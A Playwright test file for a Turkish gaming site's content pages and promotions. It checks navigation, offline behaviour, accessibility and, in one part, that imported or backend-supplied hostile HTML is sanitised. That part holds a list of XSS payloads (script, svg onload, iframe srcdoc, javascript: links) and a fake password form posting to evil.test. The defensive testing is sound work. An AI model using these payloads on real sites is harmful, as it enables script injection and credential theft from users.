import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright/test';
import { findAccessProblems } from '../support/axe.ts';
import { expect, test } from '../support/browser-test.ts';
import { HARMLESS_WORDS, hostilePage } from '../support/hostile-html.ts';
import { openApp } from '../support/open-app.ts';
import { enterAsNewPlayer } from '../support/page-player.ts';
import { askOperator } from '../support/run-operator.ts';
import { runServer } from '../support/running-server.ts';

const DAY_MS = 86_400_000;
const DESK = { width: 1440, height: 900 };
const PHONE = { width: 390, height: 844 };
/** What a hostile text tries: any part that runs sets `wasRun`, opens a dialog or sends a request. */
const HOSTILE = [
  '<script>globalThis.wasRun = "script"</script>',
  '<svg onload="globalThis.wasRun = \'svg\'"><script>globalThis.wasRun = "svg script"</script></svg>',
  '<iframe srcdoc="<script>parent.wasRun = 1</script>"></iframe>',
  '<a href="javascript:globalThis.wasRun = 1">Tıkla</a>',
  '<form action="https://evil.test/"><input name="password"><button>Giriş</button></form>',
  '<style>body { display: none }</style>',
  '<p style="position: fixed; inset: 0" onclick="globalThis.wasRun = 1">Tıkla</p>',
  hostilePage,
].join('');

const wasRun = (page: Page) => page.evaluate(() => (globalThis as { wasRun?: unknown }).wasRun);

/** Collects what a hostile text causes outside its page: dialogs to the player, and requests to other hosts. */
function watchForHarm(page: Page, hasPolicy: boolean): string[] {
  const taken: string[] = [];
  page.on('dialog', (dialog) => {
    taken.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    // A backend may host its pictures anywhere: only the policy restricts from where they may load, so nothing does
    // while it is switched off.
    if (/evil\.test/.test(request.url()) && (hasPolicy || request.resourceType() !== 'image')) taken.push(request.url());
  });
  return taken;
}

async function expectHarmless(page: Page, path: string, place: string): Promise<void> {
  const shown = path.includes('detail=') ? page.getByRole('dialog') : page.getByRole('article');
  const words = shown.getByText(HARMLESS_WORDS);
  await expect(words, place).toBeVisible();
  await words.click();
  expect(await wasRun(page), place).toBeUndefined();
  const odd = 'script, iframe, form, input, button, style, svg, math, [style], [onclick], [onerror], a[href^="javascript"]';
  await expect(words.locator('xpath=..').locator(odd), place).toHaveCount(0);
}

/** Adds the hostile text to a site as a page and a promotion, with the operator's import. */
async function importHostile(dataDirectory: string, isActive: boolean): Promise<void> {
  const folder = await mkdtemp(join(tmpdir(), 'meydan-hostile-'));
  for (const [kind, fields] of Object.entries({ page: {}, promotion: { images: ['/art/slot/1-w.svg'], position: 90 } })) {
    await mkdir(join(folder, kind));
    await writeFile(join(folder, kind, 'hostile.tr.json'), JSON.stringify({ title: 'Kötü niyet', isActive, ...fields }));
    await writeFile(join(folder, kind, 'hostile.tr.html'), HOSTILE);
  }
  await askOperator(dataDirectory, ['content', 'import', folder]);
  await rm(folder, { recursive: true });
}

test('[R1.008] [R2.027] [R2.028] [R2.190] [R2.191] [R2.192] a guest reads the general terms, and navigates within them and to the other pages', async ({
  page,
  server,
}) => {
  await page.setViewportSize(DESK);
  await page.goto('/pages/1');
  await expect(page.getByRole('heading', { level: 1, name: 'Genel şartlar' })).toBeVisible();
  await expect(page.getByText(/Sürüm 1 · .* tarihinden beri geçerli · yaklaşık \d+ dakika/)).toBeVisible();
  const navigation = page.getByRole('navigation', { name: 'İçerik sayfaları' });
  await expect(navigation.getByRole('link', { name: 'Genel şartlar' })).toHaveAttribute('aria-current', 'page');
  const contents = page.getByRole('navigation', { name: 'Bu sayfada' }).getByRole('link');
  const headings = page.getByRole('article').getByRole('heading', { level: 2 });
  await expect(headings).not.toHaveCount(0);
  await expect(contents).toHaveText(await headings.allTextContents());
  await expect(contents.first()).toHaveAttribute('aria-current', 'true');
  await contents.nth(1).click();
  await expect(page).toHaveURL(/\/pages\/1#b-.+/);
  await expect(headings.nth(1)).toBeInViewport();
  await page.reload();
  await expect(page.getByRole('heading', { level: 1, name: 'Genel şartlar' })).toBeAttached();
  const crumbs = page.getByRole('navigation', { name: 'Konum' });
  await expect(crumbs).toHaveText('Ana Sayfa/Genel şartlar');
  await expect(crumbs.locator('[aria-current]')).toHaveText('Genel şartlar');
  await navigation.getByRole('link', { name: 'Gizlilik' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Gizlilik' })).toBeVisible();
  await crumbs.getByRole('link', { name: 'Ana Sayfa' }).click();
  await expect(page).toHaveURL(/\/$/);
  await page.goBack();
  await page.setViewportSize(PHONE);
  await expect(navigation.getByRole('link').first()).toBeHidden();
  await navigation.getByRole('button').click();
  await navigation.getByRole('link', { name: 'Genel şartlar' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Genel şartlar' })).toBeVisible();
  await crumbs.getByRole('link', { name: 'Ana Sayfa' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await expect(page).toHaveURL(/\/pages\/1$/);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
  await enterAsNewPlayer(page, server, '/promotions');
  await crumbs.getByRole('link', { name: 'Ana Sayfa' }).click();
  await expect(page.getByRole('dialog', { name: 'Hesap menüsü' })).toBeVisible();
  await page.goto('/pages/no-such');
  await expect(page.getByRole('heading', { level: 1, name: 'Bu sayfa yok' })).toBeVisible();
  expect(await findAccessProblems(page)).toEqual([]);
});

test('[R1.008] [R2.026] [R2.119] [R3.044] promotions open in a dialog with an address that Back, a reload and a lost connection respect', async ({
  page,
  context,
}) => {
  await page.goto('/promotions');
  await expect(page.getByRole('heading', { level: 1, name: 'Promosyonlar' })).toBeVisible();
  const cards = page.getByRole('main').getByRole('article');
  await expect(cards).toHaveCount(3);
  await page.getByRole('button', { name: 'Oyunlar', exact: true }).click();
  await expect(cards).toHaveCount(1);
  await page.getByRole('button', { name: 'Tümü' }).click();
  await cards.nth(1).getByRole('link').click();
  const detail = page.getByRole('dialog', { name: 'Favorilerini bir araya topla' });
  await expect(detail).toBeVisible();
  await expect(page).toHaveURL(/\/promotions\?detail=2$/);
  await expect(detail.getByText('Beğendiğin oyunun kalbine dokun')).toBeVisible();
  await expect(detail.locator('img')).toHaveAttribute('src', /art\/slot\/1619-w\.svg$/);
  await expect(detail.getByRole('link', { name: 'Slotlara bak' })).toHaveAttribute('href', '/casino/slot');
  expect(await detail.boundingBox()).toEqual({ x: 0, y: 0, ...PHONE });
  expect(await findAccessProblems(page)).toEqual([]);
  await page.setViewportSize(DESK);
  expect((await detail.boundingBox())?.width).toBe(560);
  expect(await findAccessProblems(page)).toEqual([]);
  await page.goBack();
  await expect(detail).toHaveCount(0);
  await expect(page).toHaveURL(/\/promotions$/);
  await page.goForward();
  await page.reload();
  await expect(detail).toBeVisible();
  await detail.getByRole('button', { name: 'Kapat' }).click();
  await expect(page).toHaveURL(/\/promotions$/);
  // The card has the first picture, the detail the second; those of the first promotion differ.
  await expect(cards.first().locator('img')).toHaveAttribute('src', /banners\/banner-1-l\.svg$/);
  await cards.first().getByRole('link').click();
  await expect(page).toHaveURL(/\/promotions\?detail=1$/);
  await expect(page.getByRole('dialog').locator('img')).toHaveAttribute('src', /art\/slot\/1931-w\.svg$/);
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null && localStorage.getItem('stored-for-offline') !== null);
  await context.setOffline(true);
  await page.goto('/promotions?detail=2');
  await expect(detail.getByText('Beğendiğin oyunun kalbine dokun')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page).toHaveURL(/\/promotions$/);
  await expect(cards).toHaveCount(3);
  await page.goto('/promotions?detail=gone');
  await expect(page.getByRole('dialog').getByText('Bu promosyon artık yok')).toBeVisible();
});

test.describe('without a worker', () => {
  test.use({ serviceWorkers: 'block' });

  test('announced terms can be read alongside the current ones, with their effective date', async ({ page }) => {
    // A separate server: other tests count notifications, and every player is notified of these terms.
    const server = await runServer({ RATE_LIMITS: 'off', SANDBOX: 'off' });
    const folder = await mkdtemp(join(tmpdir(), 'meydan-terms-'));
    const from = new Date(Date.now() + 20 * DAY_MS).toISOString().slice(0, 10);
    await writeFile(join(folder, 'tr.html'), '<h2>1. Yeni başlık</h2><p>Yeni söz</p>');
    await writeFile(join(folder, 'en.html'), '<h2>1. New heading</h2><p>New words</p>');
    await askOperator(server.dataDirectory, ['publish-terms', '--tr', join(folder, 'tr.html'), '--en', join(folder, 'en.html'), '--from', from]);
    await rm(folder, { recursive: true });
    await page.goto(`${server.url}pages/1`);
    await expect(page.getByText('Yeni sürüm duyuruldu.')).toBeVisible();
    await page.getByRole('button', { name: 'Yeni metni oku' }).click();
    await expect(page.getByText('Yeni söz')).toBeVisible();
    await expect(page.getByText(/Sürüm 2 · .* tarihinde geçerli olur/)).toBeVisible();
    expect(await findAccessProblems(page)).toEqual([]);
    await page.getByRole('button', { name: 'Geçerli metne dön' }).click();
    await expect(page.getByText('Yeni söz')).toHaveCount(0);
    await server.stop();
    await server.remove();
  });

  test('nothing shifts while promotions, a detail and pages load', async ({ page }) => {
    await page.addInitScript(() => {
      const seen = { shift: 0 };
      Object.assign(globalThis, { seen });
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) seen.shift += (entry as PerformanceEntry & { value: number }).value;
      }).observe({ type: 'layout-shift', buffered: true });
    });
    for (const size of [PHONE, DESK]) {
      await page.setViewportSize(size);
      for (const path of ['/promotions', '/promotions?detail=1', '/pages/1', '/responsible-play']) {
        await page.goto(path);
        await expect(page.locator('main h1')).toBeVisible();
        await expect(page.locator('footer').last()).toBeAttached();
        await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
        await expect(page.getByText(/oyun parası/i).last()).toBeAttached();
        const shift = await page.evaluate(() => (globalThis as unknown as { seen: { shift: number } }).seen.shift);
        expect(shift, `${path} at ${size.width} px`).toBeLessThan(0.02);
      }
    }
  });
});

test('hostile content that the operator imports runs nowhere and does not violate the page’s policy', async ({ page, server }) => {
  const taken = watchForHarm(page, true);
  await importHostile(server.dataDirectory, true);
  for (const place of ['/pages/hostile', '/promotions?detail=hostile']) {
    await page.goto(place);
    await expectHarmless(page, place, place);
  }
  expect(taken).toEqual([]);
  await importHostile(server.dataDirectory, false);
});

test.describe('hostile content', () => {
  // Without the page's policy, which would stop it as well: sanitising alone has to hold.
  test.use({ serviceWorkers: 'block', bypassCSP: true });

  test('[R2.120] neither runs when the operator imports it nor when another backend answers with it', async ({ page, server }) => {
    const taken = watchForHarm(page, false);
    await importHostile(server.dataDirectory, true);
    const places = ['/pages/hostile', '/promotions?detail=hostile'];
    for (const place of places) {
      await page.goto(place);
      await expectHarmless(page, place, `imported: ${place}`);
    }
    await page.route('**/api/cms/page', (route) =>
      route.fulfill({ json: { success: true, message: null, data: { id: 'hostile', title: 'Kötü niyet', html: HOSTILE } } }),
    );
    const promotion = { id: 'hostile', title: 'Kötü niyet', description: HOSTILE, images: [], url: 'javascript:globalThis.wasRun = 1', action: 'Git' };
    await page.route('**/api/cms/promotionlist', (route) => route.fulfill({ json: { success: true, message: null, data: [promotion] } }));
    for (const place of places) {
      await page.evaluate(() => localStorage.clear());
      await page.goto(place);
      await expectHarmless(page, place, `answered: ${place}`);
    }
    await expect(page.getByRole('link', { name: 'Git' })).toHaveCount(0);
    expect(taken).toEqual([]);
    await importHostile(server.dataDirectory, false);
  });

  test('promotions and pages that fail to load show a message, and load on another try', async ({ page }) => {
    for (const [path, call, heading] of [
      ['/promotions', 'promotionlist', 'Promosyonlar'],
      ['/pages/1', 'page', 'Genel şartlar'],
    ] as const) {
      await page.route(`**/api/cms/${call}`, (route) => route.fulfill({ status: 500, json: { success: false, message: null } }));
      // Navigates within the app: a document from the server may include data that is then not requested.
      await openApp(page, '/responsible-play');
      await page.locator(`a[href="${path}"]`).filter({ visible: true }).first().click();
      await expect(page.getByRole('main').getByRole('heading', { name: /açılamadı/ })).toBeVisible();
      expect(await findAccessProblems(page)).toEqual([]);
      await page.unroute(`**/api/cms/${call}`);
      await page.getByRole('main').getByRole('button', { name: 'Yeniden dene' }).click();
      await expect(page.getByRole('main').getByRole('heading', { name: heading, level: 1 })).toBeVisible();
      await expect(page.getByRole('article').first()).toBeVisible();
    }
    await page.route('**/api/cms/promotionlist', (route) => route.fulfill({ json: { success: true, message: null, data: [] } }));
    await page.evaluate(() => localStorage.clear());
    await page.goto('/promotions');
    await expect(page.getByRole('heading', { name: 'Şu an promosyon yok' })).toBeVisible();
  });
});
